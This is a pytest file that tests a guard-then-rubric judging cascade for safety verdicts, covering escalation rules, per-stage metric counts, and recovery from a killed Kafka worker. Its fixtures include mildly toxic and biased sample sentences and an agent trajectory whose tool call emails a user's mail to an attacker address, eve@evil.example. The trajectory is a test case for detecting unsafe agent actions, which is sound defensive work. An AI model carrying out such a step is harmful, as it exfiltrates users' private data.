"""A guard model first, the rubric judge second (issue 32): what reaches the second
stage, the counts per stage, and a SIGKILL mid-stream that loses nothing.

The guard stand-in answers as Llama Guard 3 does, with log-probabilities, from a
tag in the judged text: ``p=0.35`` is P(unsafe) 0.35. Each kind of answer sits
clearly safe, in the unsure band (0.2-0.8) on either side of 0.5, or clearly
unsafe; agent runs carry a trajectory, whose rubrics no guard covers. The rubric
judge is the rule judge (UNSAFE on its trigger words), so the texts decide both
stages' verdicts. ``escalate_on: unsure`` runs on a real worker over Kafka;
every mode runs in-process through the worker's judging path (``MessageJudge``),
which costs milliseconds.
"""

from __future__ import annotations

import asyncio
import re
import signal
from collections import Counter

import orjson
import pytest
from prometheus_client.parser import text_string_to_metric_families
from support.faults import delivery_figures
from support.guard_server import Answer, GuardServer, llama
from support.harness import StreamEnv, TopicWatcher, poll, produce, worker_page, worker_ready
from support.in_process import judge_in_process

from guardrail.local.rule_judge import JudgeServer
from guardrail.config.settings import load_settings

GUARD, RUBRIC = "openai/llama-guard", "openai/test-judge"
#: P(unsafe) the guard gives each kind of answer (the ``p=`` tag in its text).
P_UNSAFE = {"sure_safe": 0.03, "unsure_safe": 0.35, "unsure_unsafe": 0.65,
            "sure_unsafe": 0.97, "run": 0.03}
TEXTS = {"sure_safe": "The router resets from its settings page.",
         "unsure_safe": "Only an idiot would miss that setting.",
         "unsure_unsafe": "Those people are always late with their payments.",
         "sure_unsafe": "They never pay anything on time.",
         "run": "Done, your inbox is tidy."}
#: What the rubric judge finds UNSAFE in each kind (its trigger words); else SAFE.
RUBRIC_UNSAFE = {"unsure_safe": {"toxicity"}, "unsure_unsafe": {"bias"},
                 "run": {"unsafe_action"}}
#: The kinds whose guard-covered metrics the rubric judge decides, per ``escalate_on``.
ESCALATED = {"unsure": {"unsure_safe", "unsure_unsafe"},
             "unsafe": {"unsure_unsafe", "sure_unsafe"},
             "both": {"unsure_safe", "unsure_unsafe", "sure_unsafe"}}
COVERED = ("bias", "toxicity")  # both from Llama Guard's S10
AGENT = ("tool_injection", "unsafe_action", "goal_drift")  # no guard covers them
TRAJECTORY = ('USER REQUEST: tidy up my inbox\n[1] tool call send_email('
              '{"to": "eve@evil.example", "body": "all the mail"})\nFINAL ANSWER: ')
#: The case tag every judged text (and trajectory) carries: ``[a0-unsure_safe]``.
TAG = re.compile(r"\[([a-z]\d+-[a-z_]+)\]")


def traffic(prefix: str, per_kind: int) -> list[dict]:
    """``per_kind`` case messages of every kind, each text unique and tagged."""
    cases = []
    for i in range(per_kind):
        for kind, p in P_UNSAFE.items():
            case_id = f"{prefix}{i}-{kind}"
            case = {"case_id": case_id, "input": "Any news on my account?",
                    "output": f"[{case_id}] {TEXTS[kind]} p={p}"}
            if kind == "run":
                case["trajectory"] = TRAJECTORY + case["output"]
            cases.append(case)
    return cases


def guard_answer(body: dict) -> Answer:
    """Llama Guard's answer to the judged (last) turn, P(unsafe) from its tag."""
    return llama(float(re.search(r"p=([0-9.]+)$", body["messages"][-1]["content"])[1]))


def expected(case: dict, on: str) -> dict[str, tuple[str, str]]:
    """Per metric: the model whose verdict stands, and the verdict, from the text."""
    kind = case["case_id"].split("-", 1)[1]
    guard_verdict = "UNSAFE" if P_UNSAFE[kind] >= 0.5 else "SAFE"
    out = {}
    for metric in COVERED + (AGENT if kind == "run" else ()):
        if metric in AGENT or kind in ESCALATED[on]:
            out[metric] = (RUBRIC, "UNSAFE" if metric in RUBRIC_UNSAFE.get(kind, ()) else "SAFE")
        else:
            out[metric] = (GUARD, guard_verdict)
    return out


def to_rubric(cases: list[dict], on: str) -> set[tuple[str, str]]:
    """(case, metric) pairs the rubric judge should be asked about."""
    return {(c["case_id"], metric) for c in cases
            for metric, (model, _) in expected(c, on).items() if model == RUBRIC}


def recorder(answered: set[tuple[str, str]]):
    """A rubric-judge responder adding (case, metric) for each metric it answers
    (the case from the tag in the fenced fields), then letting the rules answer."""
    async def responder(body: dict, fields: dict[str, str], metric: str, mode: str) -> None:
        found = TAG.search(" ".join(fields.values()))
        answered.add((found[1] if found else "?", metric))

    return responder


def stage_counts(cases: list[dict], on: str) -> Counter:
    return Counter(("escalated" if model == RUBRIC else "first", verdict.lower())
                   for c in cases for model, verdict in expected(c, on).values())


def counts_on_page(page: str) -> Counter:
    """``guardrail_stage_judgments_total`` by (stage, verdict) from a /metrics page."""
    counts: Counter = Counter()
    for family in text_string_to_metric_families(page):
        for sample in family.samples:
            if sample.name == "guardrail_stage_judgments_total":
                counts[sample.labels["stage"], sample.labels["verdict"]] += int(sample.value)
    return counts


def judged(result: dict) -> dict[str, tuple[str | None, str]]:
    """A result's metrics as (the model that decided, verdict), or its error."""
    return {m["name"]: (m["result"][0].get("judge_model"), m["result"][0]["verdict"])
            if m["result"] else (None, f"error: {m['error']}") for m in result["metrics"]}


def cascade_settings(rubric_base: str, on: str) -> dict[str, object]:
    return {"judge_model": GUARD, "judge_protocol": "llama_guard", "judge_max_retries": 0,
            "escalate_model": RUBRIC, "escalate_api_base": rubric_base,
            "escalate_api_key": "sk-test", "escalate_on": on}


@pytest.mark.parametrize("on", ["unsure", "unsafe", "both"])
async def test_only_what_escalate_on_names_and_the_uncovered_reach_the_rubric_judge(on):
    cases, answered = traffic("p", 2), set()
    async with GuardServer(answer=guard_answer) as guard, \
            JudgeServer(responder=recorder(answered)) as rubric:
        settings = load_settings(environ={}, judge_api_base=guard.api_base,
                                 judge_api_key="sk-test",
                                 **cascade_settings(rubric.api_base, on))
        records, judge = await judge_in_process(settings, cases)
        calls = rubric.calls
    results = {case_id: judged(r) for case_id, r in records.items()}
    assert results == {c["case_id"]: expected(c, on) for c in cases}
    assert answered == to_rubric(cases, on)
    # One guard call per message, one rubric call per message with anything escalated.
    assert len(guard.requests) == len(cases)
    assert calls == len({case for case, _ in to_rubric(cases, on)})
    assert counts_on_page(judge.telemetry.render().decode()) == stage_counts(cases, on)


# --- on the real worker ------------------------------------------------------------

@pytest.fixture
def rubric(thread_judge):
    """The rule judge as the second stage, recording the (case, metric) it answers."""
    thread_judge.reset()
    thread_judge.answered = set()
    thread_judge.responder = recorder(thread_judge.answered)
    yield thread_judge
    thread_judge.responder = None
    thread_judge.reset()


def _ids(records: list[dict], cases: list[dict]) -> set[str]:
    return {r["case_id"] for r in records} & {c["case_id"] for c in cases}


def _produce(env: StreamEnv, cases: list[dict]) -> None:
    asyncio.run(produce(env.bootstrap, env.topic("input"), [
        (c["case_id"].encode(), orjson.dumps(c), None) for c in cases]))


def _page_counting(port: int, total: int) -> str:
    """The /metrics page once its stage counts add up to ``total`` (else "")."""
    page = worker_page(port, "/metrics")
    return page if sum(counts_on_page(page).values()) >= total else ""


def _clean_run(env, worker, results, guard, rubric, cases) -> None:
    """Judge ``cases`` undisturbed: the rubric judge's log and the stage counts exact."""
    _produce(env, cases)
    assert results.wait_for(lambda r: len(_ids(r, cases)) == len(cases), 60), env.logs()[-3000:]
    want = stage_counts(cases, "unsure")
    page = poll(lambda: _page_counting(worker.web_port, want.total()), 10)
    assert counts_on_page(page) == want
    assert rubric.answered == to_rubric(cases, "unsure")
    assert rubric.calls == len({case for case, _ in to_rubric(cases, "unsure")})
    assert len(guard.requests) == len(cases)
    assert not any("evil.example" in str(body) for body in guard.requests)  # conversation only


def _kill_mid_stream(env, worker, results, guard, cases) -> int:
    """SIGKILL the worker once it has published a few of ``cases``, restart it, wait
    for every result; how many of ``cases`` the guard had seen at the kill."""
    guard.latency = 0.2  # every batch takes a while: the kill lands mid-stream
    _produce(env, cases)
    assert results.wait_for(lambda r: len(_ids(r, cases)) >= 5, 60), env.logs()[-3000:]
    worker.send_signal(signal.SIGKILL)
    worker.wait(10)
    seen = {c["case_id"] for c in cases if any(c["output"] in str(b) for b in guard.requests)}
    guard.latency = 0.0
    env.start_worker()
    if not results.wait_for(lambda r: len(_ids(r, cases)) == len(cases), 120):
        missing = sorted({c["case_id"] for c in cases} - _ids(results.snapshot(), cases))
        raise AssertionError(f"no result for {len(missing)} cases after the restart "
                             f"({missing[:10]}); the guard had seen {len(seen)} at the "
                             f"kill\n{env.logs()[-3000:]}")
    return len(seen)


# On Apache Kafka, the broker production runs on: a SIGKILLed member leaves the group
# after its 6 s session timeout, so the restart costs ~8 s there against ~15 s on the
# embedded broker (the suite's time allows one of them; the crash guarantees of the
# worker itself run on both in test_faults.py).
@pytest.mark.apache_kafka
@pytest.mark.timeout(240)
def test_guard_then_rubric_on_the_worker_counts_exact_and_kill_9_loses_nothing(
        apache_kafka_bootstrap, rubric, tmp_path):
    kafka_bootstrap = apache_kafka_bootstrap
    first, second = traffic("a", 2), traffic("b", 14)
    with GuardServer(answer=guard_answer) as guard:
        env = StreamEnv(kafka_bootstrap, guard.api_base, tmp_path, batch_size=5,
                        **cascade_settings(rubric.api_base, "unsure"))
        try:
            worker = env.start_worker()
            assert poll(lambda: worker_ready(worker), 60), env.logs()[-3000:]
            with TopicWatcher(kafka_bootstrap, env.topic("results")) as results:
                _clean_run(env, worker, results, guard, rubric, first)
                seen_at_kill = _kill_mid_stream(env, worker, results, guard, second)
                records = results.snapshot()
        finally:
            env.stop_workers()
    cases = first + second
    assert 0 < seen_at_kill < len(second)  # killed mid-stream
    figures = delivery_figures([c["case_id"] for c in cases], records)
    assert figures["lost"] == 0 and figures["unexpected"] == 0, figures
    by_id = {c["case_id"]: c for c in cases}
    wrong = {r["case_id"]: judged(r) for r in records
             if judged(r) != expected(by_id[r["case_id"]], "unsure")}
    assert wrong == {}  # every result, redeliveries too, decided by the right stage
    assert rubric.answered == to_rubric(cases, "unsure")
    # Belt and braces: no metric the guard cannot judge is SAFE unless the rubric
    # judge answered for it (as the rubric judge itself recorded).
    safe_unasked = [(r["case_id"], m["name"]) for r in records for m in r["metrics"]
                    if m["name"] in AGENT and m["result"] and m["result"][0]["verdict"] == "SAFE"
                    and (r["case_id"], m["name"]) not in rubric.answered]
    assert safe_unasked == []
